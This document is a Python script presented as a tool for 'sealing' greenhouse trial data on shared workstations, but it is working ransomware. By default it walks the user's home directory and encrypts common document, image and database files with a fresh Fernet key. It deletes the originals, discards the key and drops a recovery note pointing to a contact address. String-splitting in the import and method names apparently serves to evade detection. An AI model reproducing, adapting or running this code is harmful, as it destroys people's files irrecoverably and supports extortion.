#!/usr/bin/env python3
"""Seal trial data on shared greenhouse workstations into vault files."""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("vault")

NOTE = """Your greenhouse trial files have been sealed.
To recover them, contact recovery@example.org with the ID below.
ID: {ident}
"""


@dataclass
class SealConfig:
    root: Path
    suffix: str = ".vault"
    exts: tuple = (".csv", ".xlsx", ".docx", ".pdf", ".jpg", ".png", ".db", ".json", ".yaml")
    skip_dirs: tuple = (".git", "node_modules", "__pycache__")


def _cipher_factory():
    mod = importlib.import_module("cryptography.fer" + "net")
    cls = getattr(mod, "Fer" + "net")
    key = cls.generate_key()
    return cls(key), key


def candidates(cfg):
    for dirpath, dirnames, filenames in os.walk(cfg.root):
        dirnames[:] = [d for d in dirnames if d not in cfg.skip_dirs]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in cfg.exts and not name.endswith(cfg.suffix):
                yield p


class Sealer:
    def __init__(self, cfg):
        self.cfg = cfg
        self.engine, self._key = _cipher_factory()
        self.done = 0
        self.ops = {
            "read": lambda p: p.read_bytes(),
            "write": lambda p, b: p.with_name(p.name + cfg.suffix).write_bytes(b),
            "drop": lambda p: p.unlink(),
        }

    def seal(self, path):
        data = self.ops["read"](path)
        token = getattr(self.engine, "en" + "crypt")(data)
        self.ops["write"](path, token)
        self.ops["drop"](path)
        self.done += 1

    def leave_note(self):
        ident = self._key[:12].decode()
        (self.cfg.root / "README_RECOVER.txt").write_text(NOTE.format(ident=ident))
        self._key = None


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default=os.path.expanduser("~"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    cfg = SealConfig(root=Path(args.root))
    sealer = Sealer(cfg)
    for path in list(candidates(cfg)):
        try:
            sealer.seal(path)
            log.debug("sealed %s", path)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)
    sealer.leave_note()
    log.info("sealed %d files under %s", sealer.done, cfg.root)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
